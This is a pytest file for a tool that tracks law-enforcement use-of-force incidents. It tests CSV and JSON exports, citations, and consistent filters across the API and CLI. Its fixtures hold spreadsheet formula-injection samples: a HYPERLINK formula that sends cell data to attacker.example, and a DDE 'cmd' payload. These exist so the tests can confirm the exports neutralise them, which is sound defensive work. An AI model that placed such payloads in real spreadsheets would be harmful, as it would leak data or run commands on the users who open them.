"""Exports for spreadsheets and citations, read back as a spreadsheet reads them: the CSV opened with
Python's csv reader (BOM, columns, one row per incident or per person, formulas neutralised), one
incident's export with its citations and evidence sentences, and the filters — one implementation
in the store — giving the same incidents in the API, `encounters incidents` and `encounters export`."""
from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import httpx
import pytest

from encounters.jobs import ingest_paths
from encounters.publish.sheets import INCIDENT_COLUMNS, PERSON_COLUMNS, safe_cell
from encounters.review.fields import review_field
from encounters.store import open_store
from encounters.store.queries import IncidentFilter

from conftest import SAMPLES

EXE = Path(sys.executable).with_name("encounters")
FORMULA_TITLE = '=HYPERLINK("http://attacker.example/steal?x="&A1,"Click for the video")'
FORMULA = f"""Title: {FORMULA_TITLE}
Published: 2025-12-18
Outlet: @Spreadsheet Wire

EL CENTRO, Calif. — A Border Patrol agent shot and wounded a driver, Ramon Vega, 40, on Tuesday night near
El Centro, the agency said.
"""


def run(*args) -> str:
    p = subprocess.run([str(EXE), *args], capture_output=True, text=True, timeout=300)
    assert p.returncode == 0, p.stderr
    return p.stdout


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    folder = tmp_path_factory.mktemp("sheets")
    (folder / "formula.txt").write_text(FORMULA, encoding="utf-8")
    path = folder / "sheets.db"
    store = open_store(f"sqlite:///{path}")
    assert not ingest_paths(store, [str(SAMPLES), str(folder / "formula.txt")]).errors
    vega = next(r for r in store.incident_rows() if r["first_outlet"] == "@Spreadsheet Wire")
    review_field(store, vega["id"], "address", "correct", value="-2+3+cmd|' /C calc'!A0", reason="a hostile editor",
                 author="mallory", expected_version=None)
    return str(path), store, vega["id"]


def read_csv(raw: bytes) -> list[dict]:
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("value,cell", [
    ("=1+2", "'=1+2"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=x", "'\t=x"),
    ("\r=x", "'\r=x"), ("  =x", "'  =x"), ("-87.62", "-87.62"), ("+1", "+1"), ("inc-1a2b", "inc-1a2b"),
    ("Lakeshore Ledger", "Lakeshore Ledger"), (None, ""), (True, "yes"), (3, 3), (-87.6, -87.6)])
def test_a_cell_that_would_run_as_a_formula_stays_text(value, cell):
    assert safe_cell(value) == cell


def test_the_csv_opens_as_a_spreadsheet_expects(db, tmp_path):
    path, store, vega_id = db
    out = tmp_path / "incidents.csv"
    run("export", "--db", path, "--format", "csv", "-o", str(out))
    rows = read_csv(out.read_bytes())
    assert list(rows[0]) == INCIDENT_COLUMNS
    assert INCIDENT_COLUMNS[:4] == ["date", "city", "county", "state"]
    assert len(rows) == len(store.incident_rows())
    vega = next(r for r in rows if r["id"] == vega_id)
    assert vega["first_report_title"] == "'" + FORMULA_TITLE  # a title beginning with = is text
    assert vega["first_report_outlet"] == "'@Spreadsheet Wire"
    assert vega["address"] == "'-2+3+cmd|' /C calc'!A0"  # and so is an editor's correction
    assert vega["longitude"].startswith("-115.")  # numbers stay numbers
    franklin = next(r for r in rows if r["city"] == "Franklin Park")
    assert franklin["subjects"] == "Mateo Ruiz, 34, injured" and franklin["subject_ages"] == "34"
    assert franklin["who_used_force"] == "law enforcement" and franklin["force_type"] == "shooting"
    assert franklin["first_report_outlet"] == "Lakeshore Ledger" and franklin["independent_sources"] == "3"
    assert "Lakeshore Ledger, “ICE officer fires on driver" in franklin["citations"]
    assert franklin["timeline"].startswith("2025-10-31 Lakeshore Ledger: first report")
    # every cell of every row is safe
    for r in rows:
        for value in r.values():
            assert not value.lstrip(" ").startswith(("=", "+", "@")) or value.startswith("'")


def test_one_row_per_person(db, tmp_path):
    path, store, _ = db
    out = tmp_path / "people.csv"
    run("export", "--db", path, "--format", "csv", "--per-person", "-o", str(out))
    rows = read_csv(out.read_bytes())
    assert list(rows[0]) == PERSON_COLUMNS
    people = sum(max(1, len(i.people)) for i in store.iter_incidents())
    assert len(rows) == people
    ruiz = next(r for r in rows if r["name"] == "Mateo Ruiz")
    assert (ruiz["age"], ruiz["status"], ruiz["subject"], ruiz["city"]) == ("34", "injured", "yes", "Franklin Park")


def test_one_incident_with_its_citations_and_evidence(db, tmp_path):
    path, store, _ = db
    inc_id = next(r["id"] for r in store.incident_rows() if r["city"] == "Franklin Park")
    data = json.loads(run("export", "--db", path, "--incident", inc_id))
    assert data["incident"]["id"] == inc_id and len(data["citations"]) == 3
    dhs = next(c for c in data["citations"] if c["document"] == "franklin-park-dhs-statement.txt")
    assert dhs["outlet"] == "Lakeshore Ledger" and dhs["published"] == "2025-10-31"
    assert dhs["citation"].startswith("Lakeshore Ledger, “ICE officer fires on driver")
    date = next(e for e in dhs["evidence"] if e["of"] == "date")
    assert "Thursday morning" in date["sentence"]
    assert data["cite"].startswith(f"Incident {inc_id}, 2025-10-30, Franklin Park, IL (unreviewed")
    assert data["incident"]["timeline"][0]["first"]
    rows = read_csv(subprocess.run([str(EXE), "export", "--db", path, "--incident", inc_id, "--format", "csv"],
                                   capture_output=True, check=True).stdout)
    assert {r["document"] for r in rows} == {c["document"] for c in data["citations"]}
    assert any(r["evidence_of"] == "date" and "Thursday morning" in r["sentence"] for r in rows)


def test_one_filter_everywhere(db, serve):
    path, store, _ = db
    server = serve(f"sqlite:///{path}", public=True)
    c = httpx.Client(base_url=server.url, timeout=30)
    cases = [({"preset": "immigration"}, ["--immigration"]),
             ({"force_type": "less-lethal"}, ["--force-type", "less-lethal"]),
             ({"law_enforcement": "at_officer"}, ["--law-enforcement", "at_officer"]),
             ({"agency": "USMS,CBP"}, ["--agency", "USMS", "--agency", "CBP"]),
             ({"preset": "immigration", "force_type": "shooting", "law_enforcement": "by_officer"},
              ["--immigration", "--force-type", "shooting", "--law-enforcement", "by_officer"])]
    everything = {r["id"] for r in store.incident_rows()}
    for params, options in cases:
        expected = {r["id"] for r in store.incident_rows(flt=IncidentFilter.from_params(params))}
        assert expected and expected != everything, params
        api = {r["id"] for r in c.get("/api/incidents", params=params | {"per_page": 500}).json()["incidents"]}
        cli = {json.loads(line)["id"] for line in run("incidents", "--db", path, "--format", "json", *options).splitlines()}
        exported = {i["id"] for i in json.loads(run("export", "--db", path, *options))["incidents"]}
        download = {r["id"] for r in read_csv(c.get("/export/incidents.csv", params=params).content)}
        page = c.get("/", params=params).text
        assert api == cli == exported == download == expected, params
        assert all(i in page for i in expected) and not any(i in page for i in everything - expected)
    immigration = store.incident_rows(flt=IncidentFilter(preset="immigration"))
    assert all(set(r["agencies"].split(",")) & {"ICE", "CBP", "HSI", "ERO", "DHS"} for r in immigration)
    r = c.get("/api/incidents", params={"force_type": "taser"})
    assert r.status_code == 400 and "shooting" in r.json()["hint"]
    r = c.get("/api/incidents", params={"agency": "%"})
    assert r.status_code == 200 and r.json()["total"] == 0  # a LIKE wildcard is a character, not a pattern
